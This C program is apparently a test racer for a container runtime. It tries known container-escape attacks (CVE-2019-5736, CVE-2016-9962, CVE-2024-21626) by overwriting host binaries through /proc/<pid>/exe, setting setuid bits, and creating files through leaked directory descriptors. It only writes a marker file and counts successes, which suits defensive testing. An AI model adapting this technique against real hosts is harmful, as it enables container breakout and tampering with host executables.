/*
 * A container process racing `secctx exec` (CVE-2019-5736, CVE-2016-9962, CVE-2024-21626).
 *
 * racer SECONDS: for SECONDS, or until /tools/stop exists, scans /proc over and over. Every
 * process whose comm is not one of the container's own (sh, sleep, racer, true) is a joiner
 * from the host. Of each one whose exe is not a file of the container (its busybox, the
 * racer), it
 *   - opens /proc/<pid>/exe with O_PATH, then chmods /proc/self/fd/N to 04755 and opens it
 *     for writing (retried until the end: a binary nothing runs any more is writable again),
 *     and writes a marker to the start of the file if it gets there;
 *   - opens every /proc/<pid>/fd/N as a directory and creates "escaped" in it.
 * Prints one line of counts at the end.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_HELD 256

static int held[MAX_HELD];
static struct stat own[2]; /* the container's busybox and the racer itself */
static int nheld;
static long seen, exe_opened, exe_denied, chmod_ok, write_ok, fd_dirs, created;

static int ours(const char *comm)
{
	return !strcmp(comm, "sh") || !strcmp(comm, "sleep") || !strcmp(comm, "racer") ||
	       !strcmp(comm, "true");
}

static void try_write(int fd)
{
	char path[64];
	int w;

	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	w = open(path, O_WRONLY);
	if (w >= 0) {
		write_ok++;
		if (pwrite(w, "#!ESCAPED", 9, 0) != 9)
			perror("pwrite");
		close(w);
	}
}

static void attack_exe(int pid)
{
	char path[64];
	int fd;

	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	fd = open(path, O_PATH);
	if (fd < 0) {
		if (errno == EACCES || errno == EPERM)
			exe_denied++;
		return;
	}
	/* Between a joiner's execve and its new comm, its exe is already the container's own
	 * binary: not a host file, not a target. */
	{
		struct stat st;

		if (fstat(fd, &st) == 0)
			for (int i = 0; i < 2; i++)
				if (st.st_dev == own[i].st_dev && st.st_ino == own[i].st_ino) {
					close(fd);
					return;
				}
	}
	exe_opened++;
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	if (chmod(path, 04755) == 0)
		chmod_ok++;
	try_write(fd);
	if (nheld < MAX_HELD)
		held[nheld++] = fd;
	else
		close(fd);
}

static void attack_fds(int pid)
{
	char path[64];
	DIR *d;
	struct dirent *e;

	snprintf(path, sizeof path, "/proc/%d/fd", pid);
	d = opendir(path);
	if (!d)
		return;
	while ((e = readdir(d))) {
		char fdpath[300];
		int dir, f;

		if (e->d_name[0] == '.' || atoi(e->d_name) < 3)
			continue;
		snprintf(fdpath, sizeof fdpath, "/proc/%d/fd/%s", pid, e->d_name);
		dir = open(fdpath, O_RDONLY | O_DIRECTORY);
		if (dir < 0)
			continue;
		fd_dirs++;
		f = openat(dir, "escaped", O_CREAT | O_WRONLY, 0644);
		if (f >= 0) {
			created++;
			close(f);
		}
		close(dir);
	}
	closedir(d);
}

int main(int argc, char **argv)
{
	int self = getpid();
	time_t end = time(NULL) + (argc > 1 ? atoi(argv[1]) : 5);

	if (stat("/bin/busybox", &own[0]) != 0 || stat("/proc/self/exe", &own[1]) != 0)
		return 2;
	printf("ready\n");
	fflush(stdout);
	while (time(NULL) < end && access("/tools/stop", F_OK) != 0) {
		DIR *proc = opendir("/proc");
		struct dirent *e;

		if (!proc)
			return 2;
		while ((e = readdir(proc))) {
			char path[64], comm[32] = "";
			int pid = atoi(e->d_name);
			FILE *f;

			if (pid <= 0 || pid == self)
				continue;
			snprintf(path, sizeof path, "/proc/%d/comm", pid);
			f = fopen(path, "r");
			if (!f)
				continue;
			if (fgets(comm, sizeof comm, f))
				comm[strcspn(comm, "\n")] = 0;
			fclose(f);
			if (ours(comm))
				continue;
			seen++;
			attack_fds(pid);
			attack_exe(pid);
		}
		closedir(proc);
		for (int i = 0; i < nheld; i++)
			try_write(held[i]);
	}
	printf("seen=%ld exe_opened=%ld exe_denied=%ld chmod_ok=%ld write_ok=%ld fd_dirs=%ld created=%ld\n",
	       seen, exe_opened, exe_denied, chmod_ok, write_ok, fd_dirs, created);
	return 0;
}
